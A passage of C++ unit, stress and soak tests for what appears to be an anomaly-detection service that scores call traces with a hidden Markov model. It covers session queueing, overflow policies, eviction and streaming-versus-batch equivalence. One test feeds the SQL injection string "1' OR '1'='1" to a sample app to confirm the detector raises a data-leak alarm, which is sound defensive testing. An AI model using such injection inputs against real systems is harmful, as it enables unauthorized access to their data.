  ASSERT_TRUE(fleet.Submit("known", "s1", event).ok());
  registry.Remove("known");
  EXPECT_FALSE(fleet.Submit("known", "s1", event).ok());
  fleet.CloseAll();
}

INSTANTIATE_TEST_SUITE_P(
    ShardsByPools, FleetDifferentialTest,
    ::testing::Combine(::testing::Values<size_t>(1, 2, 8),
                       ::testing::Values<size_t>(0, 1, 4)),
    [](const ::testing::TestParamInfo<std::tuple<size_t, size_t>>& info) {
      return "Shards" + std::to_string(std::get<0>(info.param)) + "Pool" +
             std::to_string(std::get<1>(info.param));
    });

}  // namespace
}  // namespace adprom::service
