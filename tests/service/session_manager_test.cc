// SessionManager behavior tests on a tiny hand-built profile: inline
// (null-pool) scoring, the two overflow policies, close/flush semantics,
// idle eviction, and the per-session stats handed to the AlertSink.

#include "service/session_manager.h"

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <future>
#include <string>
#include <thread>
#include <vector>

#include "core/detection_engine.h"
#include "hmm/hmm_model.h"
#include "service/alert_sink.h"
#include "util/matrix.h"
#include "util/thread_pool.h"

namespace adprom::service {
namespace {

using core::Detection;

/// A 2-state profile over {print, scan} with window length 3; threshold
/// low enough that in-alphabet traffic never alarms. Small on purpose:
/// these tests exercise queueing, not detection quality.
core::ApplicationProfile MakeTinyProfile(size_t window_length = 3) {
  core::ApplicationProfile profile;
  profile.options.window_length = window_length;
  profile.options.use_dd_labels = false;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("scan");
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.7, 0.3}, {0.4, 0.6}}),
      util::Matrix::FromRows({{0.2, 0.5, 0.3}, {0.2, 0.3, 0.5}}),
      {0.5, 0.5});
  profile.threshold = -100.0;
  profile.context_pairs.insert({"main", "print"});
  profile.context_pairs.insert({"main", "scan"});
  return profile;
}

/// Deterministic event stream: event i is print/scan alternating.
runtime::CallEvent Ev(int i) {
  runtime::CallEvent event;
  event.callee = (i % 2 == 0) ? "print" : "scan";
  event.caller = "main";
  event.block_id = i;
  return event;
}

runtime::Trace MakeTrace(int first, int count) {
  runtime::Trace trace;
  for (int i = 0; i < count; ++i) trace.push_back(Ev(first + i));
  return trace;
}

void ExpectSameDetections(const std::vector<Detection>& expected,
                          const std::vector<Detection>& actual,
                          const std::string& label) {
  ASSERT_EQ(expected.size(), actual.size()) << label;
  for (size_t i = 0; i < expected.size(); ++i) {
    EXPECT_EQ(expected[i].flag, actual[i].flag) << label << " " << i;
    EXPECT_EQ(expected[i].score, actual[i].score) << label << " " << i;
    EXPECT_EQ(expected[i].window_start, actual[i].window_start)
        << label << " " << i;
  }
}

TEST(SessionManagerTest, NullPoolScoresInlineAndMatchesBatch) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  const core::DetectionEngine engine(&profile);
  CollectingAlertSink sink;
  SessionManager manager(&profile, &sink, /*pool=*/nullptr);

  const runtime::Trace trace = MakeTrace(0, 10);
  for (const runtime::CallEvent& event : trace) {
    ASSERT_TRUE(manager.Submit("s", event).ok());
  }
  // Null pool = synchronous: verdicts are already in the sink.
  ExpectSameDetections(engine.MonitorTrace(trace), sink.DetectionsFor("s"),
                       "inline");
  ASSERT_TRUE(manager.CloseSession("s").ok());
  const SessionStats stats = sink.StatsFor("s");
  EXPECT_EQ(stats.events_accepted, 10u);
  EXPECT_EQ(stats.verdicts, 8u);  // 10 events, window 3
  EXPECT_EQ(stats.dropped_events, 0u);
  EXPECT_EQ(manager.num_sessions(), 0u);
}

TEST(SessionManagerTest, DropOldestKeepsTailAndCountsDrops) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  const core::DetectionEngine engine(&profile);
  CollectingAlertSink sink;
  util::ThreadPool pool(1);
  // Park the pool's only worker so the session queue can actually fill.
  std::promise<void> gate;
  std::shared_future<void> opened = gate.get_future().share();
  pool.Submit([opened] { opened.wait(); });

  SessionManagerOptions options;
  options.queue_capacity = 4;
  options.overflow = SessionManagerOptions::OverflowPolicy::kDropOldest;
  SessionManager manager(&profile, &sink, &pool, options);

  for (int i = 0; i < 10; ++i) {
    ASSERT_TRUE(manager.Submit("s", Ev(i)).ok());
  }
  EXPECT_EQ(manager.total_dropped(), 6u);

  gate.set_value();
  manager.Drain();
  // The monitor saw exactly the surviving tail, events 6..9.
  ExpectSameDetections(engine.MonitorTrace(MakeTrace(6, 4)),
                       sink.DetectionsFor("s"), "post-drop tail");
  ASSERT_TRUE(manager.CloseSession("s").ok());
  const SessionStats stats = sink.StatsFor("s");
  EXPECT_EQ(stats.events_accepted, 10u);
  EXPECT_EQ(stats.dropped_events, 6u);
  EXPECT_EQ(stats.verdicts, 2u);  // 4 surviving events, window 3
}

TEST(SessionManagerTest, BlockPolicyStallsProducerUntilDrained) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  const core::DetectionEngine engine(&profile);
  CollectingAlertSink sink;
  util::ThreadPool pool(1);
  std::promise<void> gate;
  std::shared_future<void> opened = gate.get_future().share();
  pool.Submit([opened] { opened.wait(); });

  SessionManagerOptions options;
  options.queue_capacity = 2;
  options.overflow = SessionManagerOptions::OverflowPolicy::kBlock;
  SessionManager manager(&profile, &sink, &pool, options);

  ASSERT_TRUE(manager.Submit("s", Ev(0)).ok());
  ASSERT_TRUE(manager.Submit("s", Ev(1)).ok());  // queue now full

  std::atomic<bool> third_submitted{false};
  std::thread producer([&] {
    ASSERT_TRUE(manager.Submit("s", Ev(2)).ok());
    third_submitted.store(true);
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  EXPECT_FALSE(third_submitted.load())
      << "kBlock producer got through a full queue";

  gate.set_value();  // worker drains, making room
  producer.join();
  EXPECT_TRUE(third_submitted.load());
  manager.Drain();
  // Lossless: all three events scored, in order.
  ExpectSameDetections(engine.MonitorTrace(MakeTrace(0, 3)),
                       sink.DetectionsFor("s"), "block policy");
  EXPECT_EQ(manager.total_dropped(), 0u);
}

TEST(SessionManagerTest, CloseFlushesShortSessionVerdict) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  const core::DetectionEngine engine(&profile);
  CollectingAlertSink sink;
  SessionManager manager(&profile, &sink, nullptr);

  const runtime::Trace trace = MakeTrace(0, 2);  // shorter than window 3
  for (const runtime::CallEvent& event : trace) {
    ASSERT_TRUE(manager.Submit("s", event).ok());
  }
  EXPECT_TRUE(sink.DetectionsFor("s").empty()) << "window never completed";
  ASSERT_TRUE(manager.CloseSession("s").ok());
  // Close scores the whole short session as one window, like batch does.
  ExpectSameDetections(engine.MonitorTrace(trace), sink.DetectionsFor("s"),
                       "short flush");
  const SessionStats stats = sink.StatsFor("s");
  EXPECT_EQ(stats.events_accepted, 2u);
  EXPECT_EQ(stats.verdicts, 1u);
}

TEST(SessionManagerTest, CloseIsTerminalButIdsAreReusable) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  CollectingAlertSink sink;
  SessionManager manager(&profile, &sink, nullptr);

  EXPECT_FALSE(manager.CloseSession("ghost").ok());

  ASSERT_TRUE(manager.Submit("s", Ev(0)).ok());
  ASSERT_TRUE(manager.CloseSession("s").ok());
  EXPECT_FALSE(manager.CloseSession("s").ok()) << "double close";
  EXPECT_EQ(manager.num_sessions(), 0u);

  // A new session may reuse the id; it starts from scratch.
  ASSERT_TRUE(manager.Submit("s", Ev(0)).ok());
  EXPECT_EQ(manager.num_sessions(), 1u);
  ASSERT_TRUE(manager.CloseSession("s").ok());
  EXPECT_EQ(sink.StatsFor("s").events_accepted, 1u);
}

TEST(SessionManagerTest, EvictIdleClosesOnlyDrainedIdleSessions) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  CollectingAlertSink sink;
  SessionManager manager(&profile, &sink, nullptr);

  ASSERT_TRUE(manager.Submit("a", Ev(0)).ok());
  ASSERT_TRUE(manager.Submit("b", Ev(1)).ok());
  EXPECT_EQ(manager.num_sessions(), 2u);

  // Nothing is older than an hour: nobody goes.
  EXPECT_EQ(manager.EvictIdle(std::chrono::hours(1)), 0u);
  EXPECT_EQ(manager.num_sessions(), 2u);

  // With a zero grace period both drained sessions are evicted (and
  // flushed through the sink like an explicit close).
  EXPECT_EQ(manager.EvictIdle(std::chrono::seconds(0)), 2u);
  EXPECT_EQ(manager.num_sessions(), 0u);
  EXPECT_EQ(sink.closed_sessions(), 2u);
  EXPECT_EQ(sink.StatsFor("a").verdicts, 1u);  // short-session flush
}

TEST(SessionManagerTest, EvictIdleSparesSessionsWithQueuedWork) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  CollectingAlertSink sink;
  util::ThreadPool pool(1);
  std::promise<void> gate;
  std::shared_future<void> opened = gate.get_future().share();
  pool.Submit([opened] { opened.wait(); });

  SessionManager manager(&profile, &sink, &pool);
  ASSERT_TRUE(manager.Submit("busy", Ev(0)).ok());
  // The event is still queued behind the parked worker: not evictable.
  EXPECT_EQ(manager.EvictIdle(std::chrono::seconds(0)), 0u);
  EXPECT_EQ(manager.num_sessions(), 1u);

  gate.set_value();
  manager.Drain();
  EXPECT_EQ(manager.EvictIdle(std::chrono::seconds(0)), 1u);
  EXPECT_EQ(manager.num_sessions(), 0u);
}

TEST(SessionManagerTest, CloseAllFlushesEverySession) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  const core::DetectionEngine engine(&profile);
  CollectingAlertSink sink;
  util::ThreadPool pool(2);
  SessionManager manager(&profile, &sink, &pool);

  constexpr int kSessions = 6;
  constexpr int kEvents = 25;
  for (int e = 0; e < kEvents; ++e) {
    for (int s = 0; s < kSessions; ++s) {
      ASSERT_TRUE(
          manager.Submit("s" + std::to_string(s), Ev(s * 100 + e)).ok());
    }
  }
  manager.CloseAll();
  EXPECT_EQ(manager.num_sessions(), 0u);
  EXPECT_EQ(sink.closed_sessions(), static_cast<size_t>(kSessions));
  for (int s = 0; s < kSessions; ++s) {
    const std::string id = "s" + std::to_string(s);
    ExpectSameDetections(engine.MonitorTrace(MakeTrace(s * 100, kEvents)),
                         sink.DetectionsFor(id), id);
    EXPECT_EQ(sink.StatsFor(id).events_accepted,
              static_cast<size_t>(kEvents));
  }
}

}  // namespace
}  // namespace adprom::service
