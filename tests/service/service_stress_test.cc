// Concurrency stress for the streaming service, written to run under
// ThreadSanitizer (the ADPROM_SANITIZE=thread CI job): many sessions fed
// from many producer threads over a small pool, with overflow, eviction
// churn, and close racing against blocked producers. The lossless test
// still asserts full bit-identity with the batch engine; the churn tests
// assert the invariants that survive any scheduling.

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <future>
#include <string>
#include <thread>
#include <vector>

#include "core/detection_engine.h"
#include "hmm/hmm_model.h"
#include "service/alert_sink.h"
#include "service/session_manager.h"
#include "util/matrix.h"
#include "util/thread_pool.h"

namespace adprom::service {
namespace {

core::ApplicationProfile MakeTinyProfile(size_t window_length = 5) {
  core::ApplicationProfile profile;
  profile.options.window_length = window_length;
  profile.options.use_dd_labels = false;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("scan");
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.7, 0.3}, {0.4, 0.6}}),
      util::Matrix::FromRows({{0.2, 0.5, 0.3}, {0.2, 0.3, 0.5}}),
      {0.5, 0.5});
  profile.threshold = -100.0;
  profile.context_pairs.insert({"main", "print"});
  profile.context_pairs.insert({"main", "scan"});
  return profile;
}

/// Session s's event stream is a deterministic function of (s, i), so any
/// thread can rebuild the exact trace a session saw.
runtime::CallEvent Ev(int session, int i) {
  runtime::CallEvent event;
  event.callee = ((session + i) % 2 == 0) ? "print" : "scan";
  event.caller = "main";
  event.block_id = session * 1000 + i;
  return event;
}

runtime::Trace SessionTrace(int session, int count) {
  runtime::Trace trace;
  for (int i = 0; i < count; ++i) trace.push_back(Ev(session, i));
  return trace;
}

TEST(ServiceStressTest, LosslessManySessionsManyProducers) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  const core::DetectionEngine engine(&profile);
  CollectingAlertSink sink;
  util::ThreadPool pool(4);
  SessionManagerOptions options;
  options.queue_capacity = 16;  // small: forces real back-pressure
  options.overflow = SessionManagerOptions::OverflowPolicy::kBlock;
  options.batch_size = 8;
  SessionManager manager(&profile, &sink, &pool, options);

  constexpr int kProducers = 4;
  constexpr int kSessionsPerProducer = 8;
  constexpr int kEventsPerSession = 200;

  // Each producer owns its sessions, so per-session submission order is
  // well defined; the cross-session interleaving is whatever the
  // scheduler makes of 4 producers vs 4 pool workers.
  std::vector<std::thread> producers;
  for (int p = 0; p < kProducers; ++p) {
    producers.emplace_back([&, p] {
      for (int i = 0; i < kEventsPerSession; ++i) {
        for (int s = 0; s < kSessionsPerProducer; ++s) {
          const int session = p * kSessionsPerProducer + s;
          ASSERT_TRUE(
              manager
                  .Submit("s" + std::to_string(session), Ev(session, i))
                  .ok());
        }
      }
    });
  }
  for (std::thread& producer : producers) producer.join();
  manager.Drain();
  manager.CloseAll();

  constexpr int kSessions = kProducers * kSessionsPerProducer;
  EXPECT_EQ(manager.total_dropped(), 0u);
  EXPECT_EQ(sink.closed_sessions(), static_cast<size_t>(kSessions));
  for (int s = 0; s < kSessions; ++s) {
    const std::string id = "s" + std::to_string(s);
    const auto expected =
        engine.MonitorTrace(SessionTrace(s, kEventsPerSession));
    const auto actual = sink.DetectionsFor(id);
    ASSERT_EQ(expected.size(), actual.size()) << id;
    for (size_t i = 0; i < expected.size(); ++i) {
      EXPECT_EQ(expected[i].flag, actual[i].flag) << id << " " << i;
      EXPECT_EQ(expected[i].score, actual[i].score) << id << " " << i;
      EXPECT_EQ(expected[i].window_start, actual[i].window_start)
          << id << " " << i;
    }
    const SessionStats stats = sink.StatsFor(id);
    EXPECT_EQ(stats.events_accepted,
              static_cast<size_t>(kEventsPerSession));
    EXPECT_EQ(stats.verdicts, expected.size());
    EXPECT_EQ(stats.dropped_events, 0u);
  }
}

TEST(ServiceStressTest, OverflowAndEvictionChurn) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  CollectingAlertSink sink;
  util::ThreadPool pool(2);
  SessionManagerOptions options;
  options.queue_capacity = 4;
  options.overflow = SessionManagerOptions::OverflowPolicy::kDropOldest;
  options.batch_size = 2;
  SessionManager manager(&profile, &sink, &pool, options);

  constexpr int kProducers = 2;
  constexpr int kSessionsPerProducer = 8;
  constexpr int kEventsPerSession = 300;
  std::atomic<bool> stop_churn{false};

  // A maintenance thread hammers eviction and drain while producers run:
  // sessions may be closed out from under a producer and transparently
  // recreated by its next Submit.
  std::thread churn([&] {
    while (!stop_churn.load()) {
      (void)manager.EvictIdle(std::chrono::seconds(0));
      (void)manager.num_sessions();
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }
  });

  std::vector<std::thread> producers;
  for (int p = 0; p < kProducers; ++p) {
    producers.emplace_back([&, p] {
      for (int i = 0; i < kEventsPerSession; ++i) {
        for (int s = 0; s < kSessionsPerProducer; ++s) {
          const int session = p * kSessionsPerProducer + s;
          // FailedPrecondition = the churn thread closed the session
          // between GetOrCreate and the enqueue; just move on.
          (void)manager.Submit("s" + std::to_string(session),
                               Ev(session, i));
        }
      }
    });
  }
  for (std::thread& producer : producers) producer.join();
  stop_churn.store(true);
  churn.join();
  manager.Drain();
  manager.CloseAll();

  // Scheduling decides how much was dropped or split across evictions;
  // what must hold regardless: everything shut down, and the drop counter
  // never exceeds what was submitted.
  EXPECT_EQ(manager.num_sessions(), 0u);
  EXPECT_LE(manager.total_dropped(),
            static_cast<size_t>(kProducers * kSessionsPerProducer *
                                kEventsPerSession));
  EXPECT_GT(sink.closed_sessions(), 0u);
}

TEST(ServiceStressTest, CloseAllWakesBlockedProducers) {
  const core::ApplicationProfile profile = MakeTinyProfile();
  CollectingAlertSink sink;
  util::ThreadPool pool(1);
  std::promise<void> gate;
  std::shared_future<void> opened = gate.get_future().share();
  pool.Submit([opened] { opened.wait(); });

  SessionManagerOptions options;
  options.queue_capacity = 1;
  options.overflow = SessionManagerOptions::OverflowPolicy::kBlock;
  SessionManager manager(&profile, &sink, &pool, options);

  // Fill the queue behind the parked worker, then block in Submit.
  ASSERT_TRUE(manager.Submit("s", Ev(0, 0)).ok());
  std::atomic<bool> rejected{false};
  std::thread producer([&] {
    const util::Status status = manager.Submit("s", Ev(0, 1));
    if (!status.ok()) rejected.store(true);
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(50));

  // Close must wake the blocked producer with an error, then wait for the
  // worker to finish once the pool is released.
  std::thread closer([&] { manager.CloseAll(); });
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  gate.set_value();
  closer.join();
  producer.join();

  EXPECT_TRUE(rejected.load())
      << "blocked producer was not failed out by close";
  EXPECT_EQ(manager.num_sessions(), 0u);
  EXPECT_EQ(sink.closed_sessions(), 1u);
}

}  // namespace
}  // namespace adprom::service
