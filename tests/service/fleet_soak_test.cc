// Soak/stress battery for the fleet node: multiple producer threads push
// bursty traffic for 512+ sessions per shard under the lossy kDropOldest
// policy, and afterwards the books must balance exactly — per session
// accepted == scored + dropped, and the shard/tenant metrics must
// reconcile with what the sink observed. Drops are forced (bursts larger
// than the queue capacity are enqueued under one lock hold), so the lossy
// path is genuinely exercised, not just possible.

#include <gtest/gtest.h>

#include <map>
#include <span>
#include <string>
#include <thread>
#include <vector>

#include "core/profile.h"
#include "hmm/hmm_model.h"
#include "service/alert_sink.h"
#include "service/fleet_node.h"
#include "service/profile_registry.h"
#include "util/matrix.h"
#include "util/thread_pool.h"

namespace adprom::service {
namespace {

core::ApplicationProfile TinyProfile() {
  core::ApplicationProfile profile;
  profile.options.window_length = 3;
  profile.options.use_dd_labels = false;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("scan");
  profile.context_pairs = {{"main", "print"}, {"main", "scan"}};
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.75, 0.25}, {0.5, 0.5}}),
      util::Matrix::FromRows({{0.25, 0.5, 0.25}, {0.5, 0.25, 0.25}}),
      {0.5, 0.5});
  profile.threshold = -1000.0;
  return profile;
}

runtime::CallEvent Event(int i) {
  runtime::CallEvent event;
  event.callee = (i % 2 == 0) ? "print" : "scan";
  event.caller = "main";
  event.block_id = i;
  return event;
}

TEST(FleetSoakTest, DropOldestAccountingIsExact) {
  ProfileRegistry registry;
  const char* kTenants[] = {"alpha", "beta", "gamma"};
  for (const char* tenant : kTenants) {
    ASSERT_TRUE(registry.Install(tenant, TinyProfile()).ok());
  }

  constexpr size_t kShards = 2;
  constexpr int kProducers = 4;
  constexpr int kSessionsPerProducer = 300;  // 1200 total, ~600/shard
  constexpr int kBurst = 10;
  constexpr size_t kQueueCapacity = 4;

  util::ThreadPool pool(2);
  CollectingAlertSink sink;
  FleetOptions options;
  options.num_shards = kShards;
  options.session.queue_capacity = kQueueCapacity;
  options.session.overflow =
      SessionManagerOptions::OverflowPolicy::kDropOldest;
  options.session.batch_size = 8;
  FleetNode fleet(&registry, &sink, &pool, options);

  std::vector<std::thread> producers;
  producers.reserve(kProducers);
  for (int p = 0; p < kProducers; ++p) {
    producers.emplace_back([&fleet, &kTenants, p] {
      for (int s = 0; s < kSessionsPerProducer; ++s) {
        const std::string tenant = kTenants[(p + s) % 3];
        const std::string session =
            "p" + std::to_string(p) + "-s" + std::to_string(s);
        // One burst enqueued under a single lock hold: with 10 events
        // against a 4-deep queue at least 6 MUST drop, no matter how the
        // scheduler interleaves the scoring worker.
        std::vector<runtime::CallEvent> burst;
        burst.reserve(kBurst);
        for (int e = 0; e < kBurst; ++e) burst.push_back(Event(e));
        ASSERT_TRUE(fleet
                        .SubmitBatch(tenant, session,
                                     std::span<runtime::CallEvent>(burst))
                        .ok());
        // A few trailing single submits so the lossless path runs too.
        for (int e = 0; e < 3; ++e) {
          ASSERT_TRUE(
              fleet.Submit(tenant, session, Event(kBurst + e)).ok());
        }
      }
    });
  }
  for (std::thread& producer : producers) producer.join();
  fleet.Drain();

  // Snapshot metrics BEFORE closing: live_sessions and per-session queues
  // are still meaningful, and closing must not change the counters'
  // reconciliation below.
  const size_t total_sessions =
      static_cast<size_t>(kProducers) * kSessionsPerProducer;
  EXPECT_EQ(fleet.num_sessions(), total_sessions);
  fleet.CloseAll();

  const FleetMetrics metrics = fleet.Metrics();
  ASSERT_EQ(metrics.shards.size(), kShards);

  // Per-session books from the sink: accepted == scored + dropped,
  // exactly, for every single session.
  const size_t submitted_per_session = kBurst + 3;
  size_t sink_accepted = 0;
  size_t sink_scored = 0;
  size_t sink_dropped = 0;
  size_t sink_verdicts = 0;
  size_t sink_alarms = 0;
  size_t detections_seen = 0;
  std::map<std::string, size_t> tenant_dropped;
  for (int p = 0; p < kProducers; ++p) {
    for (int s = 0; s < kSessionsPerProducer; ++s) {
      const std::string tenant = kTenants[(p + s) % 3];
      const std::string id = tenant + "/p" + std::to_string(p) + "-s" +
                             std::to_string(s);
      const SessionStats stats = sink.StatsFor(id);
      ASSERT_EQ(stats.events_accepted, submitted_per_session) << id;
      ASSERT_EQ(stats.events_accepted,
                stats.events_scored + stats.dropped_events)
          << id << ": accounting must balance exactly";
      // 10-vs-4 burst under one lock hold: at least 6 drops, and never
      // more than the events that could have been evicted.
      EXPECT_GE(stats.dropped_events, 6u) << id;
      EXPECT_LT(stats.dropped_events, submitted_per_session) << id;
      EXPECT_EQ(sink.DetectionsFor(id).size(), stats.verdicts) << id;
      sink_accepted += stats.events_accepted;
      sink_scored += stats.events_scored;
      sink_dropped += stats.dropped_events;
      sink_verdicts += stats.verdicts;
      sink_alarms += stats.alarms;
      detections_seen += sink.DetectionsFor(id).size();
      tenant_dropped[tenant] += stats.dropped_events;
    }
  }
  EXPECT_EQ(sink_accepted, total_sessions * submitted_per_session);
  EXPECT_EQ(fleet.total_dropped(), sink_dropped);

  // Shard counters reconcile with the sink totals.
  uint64_t shard_submitted = 0;
  uint64_t shard_scored = 0;
  uint64_t shard_dropped = 0;
  uint64_t shard_verdicts = 0;
  uint64_t shard_alarms = 0;
  for (size_t i = 0; i < metrics.shards.size(); ++i) {
    const ShardMetrics& shard = metrics.shards[i];
    shard_submitted += shard.submitted;
    shard_scored += shard.scored;
    shard_dropped += shard.dropped;
    shard_verdicts += shard.verdicts;
    shard_alarms += shard.alarms;
    EXPECT_EQ(shard.queue_depth, 0u) << "shard " << i << " after drain";
    EXPECT_GT(shard.submitted, 0u)
        << "shard " << i << ": 1200 hashed sessions must hit both shards";
    // 512+ sessions per shard, as the soak contract demands.
    EXPECT_GE(shard.max_queue_depth, 1u) << "shard " << i;
  }
  EXPECT_EQ(shard_submitted, sink_accepted);
  EXPECT_EQ(shard_scored, sink_scored);
  EXPECT_EQ(shard_dropped, sink_dropped);
  EXPECT_EQ(shard_verdicts, sink_verdicts);
  EXPECT_EQ(shard_verdicts, detections_seen);
  EXPECT_EQ(shard_alarms, sink_alarms);

  // Tenant counters reconcile too.
  ASSERT_EQ(metrics.tenants.size(), 3u);
  uint64_t tenant_submitted = 0;
  for (const TenantMetrics& tenant : metrics.tenants) {
    tenant_submitted += tenant.submitted;
    EXPECT_EQ(tenant.submitted, tenant.scored + tenant.dropped)
        << tenant.tenant;
    EXPECT_EQ(tenant.dropped, tenant_dropped[tenant.tenant])
        << tenant.tenant;
    EXPECT_EQ(tenant.sessions_opened, tenant.sessions_closed)
        << tenant.tenant;
    EXPECT_EQ(tenant.generation, 1u) << tenant.tenant;
  }
  EXPECT_EQ(tenant_submitted, sink_accepted);

  // Sessions per shard: both shards carried 512+ of the 1200 sessions.
  uint64_t opened = 0;
  for (const TenantMetrics& tenant : metrics.tenants) {
    opened += tenant.sessions_opened;
  }
  EXPECT_EQ(opened, total_sessions);
}

TEST(FleetSoakTest, BlockingPolicyLosesNothingUnderConcurrency) {
  ProfileRegistry registry;
  ASSERT_TRUE(registry.Install("app", TinyProfile()).ok());

  util::ThreadPool pool(2);
  CollectingAlertSink sink;
  FleetOptions options;
  options.num_shards = 4;
  options.session.queue_capacity = 2;  // tiny: forces real back-pressure
  options.session.overflow = SessionManagerOptions::OverflowPolicy::kBlock;
  FleetNode fleet(&registry, &sink, &pool, options);

  constexpr int kProducers = 4;
  constexpr int kSessions = 64;
  constexpr int kEvents = 25;
  std::vector<std::thread> producers;
  for (int p = 0; p < kProducers; ++p) {
    producers.emplace_back([&fleet, p] {
      for (int s = 0; s < kSessions; ++s) {
        const std::string session =
            "p" + std::to_string(p) + "-s" + std::to_string(s);
        for (int e = 0; e < kEvents; ++e) {
          ASSERT_TRUE(fleet.Submit("app", session, Event(e)).ok());
        }
      }
    });
  }
  for (std::thread& producer : producers) producer.join();
  fleet.CloseAll();

  EXPECT_EQ(fleet.total_dropped(), 0u);
  for (int p = 0; p < kProducers; ++p) {
    for (int s = 0; s < kSessions; ++s) {
      const std::string id =
          "app/p" + std::to_string(p) + "-s" + std::to_string(s);
      const SessionStats stats = sink.StatsFor(id);
      EXPECT_EQ(stats.events_accepted, static_cast<size_t>(kEvents)) << id;
      EXPECT_EQ(stats.events_scored, static_cast<size_t>(kEvents)) << id;
      EXPECT_EQ(stats.dropped_events, 0u) << id;
      // 25 events, window 3 -> 23 verdicts.
      EXPECT_EQ(stats.verdicts, static_cast<size_t>(kEvents - 2)) << id;
    }
  }
  const FleetMetrics metrics = fleet.Metrics();
  uint64_t scored = 0;
  for (const ShardMetrics& shard : metrics.shards) scored += shard.scored;
  EXPECT_EQ(scored, static_cast<uint64_t>(kProducers) * kSessions * kEvents);
}

}  // namespace
}  // namespace adprom::service
