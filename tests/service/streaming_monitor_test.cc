// StreamingMonitor unit + golden tests: feeding a trace one event at a
// time must reproduce DetectionEngine::MonitorTrace verdict for verdict,
// bit for bit — including the short-trace whole-window rule on Finish()
// and across buffer compactions on long streams.

#include "service/streaming_monitor.h"

#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <vector>

#include "core/adprom.h"
#include "core/detection_engine.h"
#include "tests/core/test_app.h"

namespace adprom::service {
namespace {

using core::Detection;
using core::testing::InventoryDbFactory;
using core::testing::InventoryTestCases;
using core::testing::kInventoryAppSource;

void ExpectSameDetections(const std::vector<Detection>& expected,
                          const std::vector<Detection>& actual,
                          const std::string& label) {
  ASSERT_EQ(expected.size(), actual.size()) << label;
  for (size_t i = 0; i < expected.size(); ++i) {
    const Detection& e = expected[i];
    const Detection& a = actual[i];
    EXPECT_EQ(e.flag, a.flag) << label << " window " << i;
    EXPECT_EQ(e.score, a.score) << label << " window " << i;
    EXPECT_EQ(e.window_start, a.window_start) << label << " window " << i;
    EXPECT_EQ(e.source_tables, a.source_tables) << label << " window " << i;
    EXPECT_EQ(e.detail, a.detail) << label << " window " << i;
  }
}

/// Streams a trace event-by-event and returns every verdict (including the
/// short-session verdict Finish may emit).
std::vector<Detection> StreamTrace(const core::ApplicationProfile& profile,
                                   const runtime::Trace& trace) {
  StreamingMonitor monitor(&profile);
  std::vector<Detection> out;
  for (const runtime::CallEvent& event : trace) {
    std::optional<Detection> verdict = monitor.OnEvent(event);
    if (verdict.has_value()) out.push_back(*verdict);
  }
  std::optional<Detection> last = monitor.Finish();
  if (last.has_value()) out.push_back(*last);
  return out;
}

class StreamingMonitorTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto program = prog::ParseProgram(kInventoryAppSource);
    ASSERT_TRUE(program.ok()) << program.status().ToString();
    program_ = new prog::Program(std::move(program).value());
    auto system = core::AdProm::Train(*program_, InventoryDbFactory(),
                                      InventoryTestCases());
    ASSERT_TRUE(system.ok()) << system.status().ToString();
    system_ = new core::AdProm(std::move(system).value());
  }

  static void TearDownTestSuite() {
    delete system_;
    delete program_;
    system_ = nullptr;
    program_ = nullptr;
  }

  runtime::Trace Collect(const std::vector<std::string>& inputs) {
    auto cfgs = prog::BuildAllCfgs(*program_);
    EXPECT_TRUE(cfgs.ok());
    auto trace = core::AdProm::CollectTrace(*program_, *cfgs,
                                            InventoryDbFactory(), {inputs});
    EXPECT_TRUE(trace.ok()) << trace.status().ToString();
    return std::move(trace).value();
  }

  static prog::Program* program_;
  static core::AdProm* system_;
};

prog::Program* StreamingMonitorTest::program_ = nullptr;
core::AdProm* StreamingMonitorTest::system_ = nullptr;

TEST_F(StreamingMonitorTest, SilentWhileFirstWindowFills) {
  const core::ApplicationProfile& profile = system_->profile();
  const runtime::Trace trace = Collect({"list", "find", "5", "stats"});
  const size_t n = profile.options.window_length;
  ASSERT_GT(trace.size(), n);

  StreamingMonitor monitor(&profile);
  for (size_t i = 0; i + 1 < n; ++i) {
    EXPECT_FALSE(monitor.OnEvent(trace[i]).has_value())
        << "verdict before the first window was complete, event " << i;
  }
  // The n-th event completes the first window.
  EXPECT_TRUE(monitor.OnEvent(trace[n - 1]).has_value());
  EXPECT_EQ(monitor.windows_scored(), 1u);
}

TEST_F(StreamingMonitorTest, EveryTestCaseMatchesBatchBitForBit) {
  const core::ApplicationProfile& profile = system_->profile();
  const core::DetectionEngine engine(&profile);
  const auto cases = InventoryTestCases();
  for (size_t i = 0; i < cases.size(); ++i) {
    const runtime::Trace trace = Collect(cases[i].inputs);
    ExpectSameDetections(engine.MonitorTrace(trace),
                         StreamTrace(profile, trace),
                         "case " + std::to_string(i));
  }
}

TEST_F(StreamingMonitorTest, InjectionRunMatchesBatchAndAlarms) {
  const core::ApplicationProfile& profile = system_->profile();
  const core::DetectionEngine engine(&profile);
  const runtime::Trace trace = Collect({"find", "1' OR '1'='1"});
  const std::vector<Detection> streamed = StreamTrace(profile, trace);
  ExpectSameDetections(engine.MonitorTrace(trace), streamed, "injection");
  bool leak = false;
  for (const Detection& d : streamed) {
    if (d.flag == core::DetectionFlag::kDataLeak &&
        !d.source_tables.empty()) {
      leak = true;
    }
  }
  EXPECT_TRUE(leak) << "streamed injection raised no DataLeak with sources";
}

